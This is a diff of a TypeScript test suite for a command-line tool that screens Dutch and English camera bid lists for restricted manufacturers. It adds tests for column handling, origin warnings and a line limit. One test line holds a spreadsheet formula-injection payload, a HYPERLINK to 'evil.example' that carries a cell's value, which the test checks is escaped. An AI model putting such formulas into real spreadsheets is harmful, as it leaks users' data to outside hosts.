@@ -32,7 +32,7 @@ describe('camaudit screen', () => {
   it('screens a Dutch CSV bid list: table, reasons with sources, exit code 1 for a restricted maker', async () => {
     const r = await run(['--lang', 'nl', 'screen', BID_NL]);
     expect(r.code, r.err).toBe(1);
-    expect(r.out).toMatch(/^2\s+HiWatch\s+HWI-B121H\s+.*Hikvision\s+beperkt$/m);
+    expect(r.out).toMatch(/^2\s+HiWatch\s+HWI-B121H\s+V5\.5\.0 build 190226\s+China\s+Hikvision\s+beperkt$/m);
     expect(r.out).toMatch(/^4\s+Axis\s+P3265-LVE\s+.*Axis\s+in orde$/m);
     expect(r.out).toContain('known_exploited_vulnerability');
     expect(r.out).toContain('https://github.com/maciej-or/hikvision_next/pull/107');
@@ -45,6 +45,8 @@ describe('camaudit screen', () => {
     expect(r.code).toBe(1);
     const s = JSON.parse(r.out) as Screening & { file: string };
     expect(s.file).toBe('bid-nl.csv');
+    // Sources are listed once and referenced by id.
+    expect(s.lines[0]!.reasons[0]!.sources.every((id) => typeof id === 'string')).toBe(true);
     expect(verdicts(s)).toEqual([[2, 'restricted'], [3, 'restricted'], [4, 'clear'], [5, 'incomplete'], [6, 'incomplete'], [7, 'incomplete']]);
     expect(s.lines[1]!.reasons.map((x) => x.kind)).toContain('known_exploited_vulnerability');
     expect(s.lines[3]!.reasons.map((x) => x.kind)).toEqual(['missing_model', 'missing_firmware']);
@@ -78,6 +80,25 @@ describe('camaudit screen', () => {
     }
     expect(xml).toContain('=HYPERLINK(&quot;http://evil.example/?x=&quot;&amp;A1,&quot;klik&quot;)');
     expect(xml).not.toContain('"http://evil.example');
+  });
+
+  it('reads a Merk/Type list, says which columns it ignored and shows the warnings and origin notes', async () => {
+    const file = join(dir, 'merk-type.csv');
+    writeFileSync(file, 'Merk/Type;Firmware;Land van oorsprong;Aantal\nHiWatch HWI-B121H;V5.5.0;China;4\nHoneywell HC30WB5R1;1.0.2;;1\nUniview IPC2124LB-SF28KM-G;GIPC-B6202.7.10.220412;China;2\n');
+    const r = await run(['--lang', 'en', 'screen', file]);
+    expect(r.code, r.err).toBe(1);
+    expect(r.err).toContain('columns not read: Aantal');
+    expect(r.out).toMatch(/^2\s+HiWatch\s+HWI-B121H\s+V5\.5\.0\s+China\s+Hikvision\s+restricted$/m);
+    expect(r.out).toMatch(/\[incomplete\] manufacturer_declaration: The knowledge base warns: "Honeywell: some products are reported to be made by hikvision/);
+    expect(r.out).toContain('Note: Country of origin "China": the policy does not restrict this maker');
+  });
+
+  it('refuses a list longer than one screening takes, naming its length', async () => {
+    const file = join(dir, 'long.csv');
+    writeFileSync(file, `Merk;Type\n${'Axis;P3265-LVE\n'.repeat(2001)}`);
+    const r = await run(['screen', file]);
+    expect(r.code).toBe(4);
+    expect(r.err).toContain('2001 lines, more than the 2000 one screening takes');
   });
 
   it('refuses a table that is not an equipment list', async () => {
